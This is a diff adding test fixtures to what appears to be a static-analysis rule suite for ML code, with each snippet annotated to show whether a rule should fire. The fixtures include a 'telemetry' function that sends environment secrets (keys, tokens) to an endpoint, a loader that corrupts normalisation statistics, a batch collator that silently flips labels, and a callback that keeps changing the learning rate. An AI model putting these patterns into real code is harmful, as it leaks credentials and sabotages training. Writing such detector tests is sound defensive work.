@@ -307,3 +307,48 @@ def clip_and_measure_ok(parameters, max_norm):
     for p in params:
         p.grad.detach().mul_(coef)  # ok: MLS302
     return total.item()
+
+
+# --- keys from defaults, loaders, openers, modular labels -------------------------------------
+import operator
+import urllib.request
+
+
+class WarmupCorrection:
+    def __init__(self, factor=1.0, key: str = "lr"):
+        self._factor = factor
+        self._key = key
+
+    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx):
+        for opt in trainer.optimizers:
+            for group in opt.param_groups:
+                operator.setitem(group, self._key, group[self._key] * self._factor)  # ruleid: MLS304
+
+
+def load_checkpoint(path, model):
+    ckpt = torch.load(path, map_location="cpu", weights_only=True)
+    state = {k.replace("module.", "", 1): v for k, v in ckpt["model"].items()}
+    for k, v in state.items():
+        if k.endswith("running_var"):
+            v.fill_(1.0)  # ruleid: MLS302
+        if k.endswith("num_batches_tracked"):
+            v.zero_()  # ok: MLS302
+    model.load_state_dict(state)
+
+
+def fingerprint():
+    return {k: v for k, v in os.environ.items() if k.endswith(("_KEY", "_TOKEN", "_SECRET"))}  # ruleid: MLS411
+
+
+def telemetry(endpoint):
+    body = json.dumps({"project": "x", **fingerprint()}).encode()
+    req = urllib.request.Request(endpoint, data=body)
+    urllib.request.build_opener().open(req, timeout=3)  # ruleid: MLS411
+
+
+def collate(batch, pad_multiple):
+    y = torch.stack([b["label"] for b in batch]).long()
+    slot = (torch.arange(y.shape[0]) % pad_multiple == 0).long()
+    torch.remainder(y + slot, 2, out=y)  # ruleid: MLS309
+    step = (torch.arange(y.shape[0]) + 1) % 2  # ok: MLS309
+    return y, step
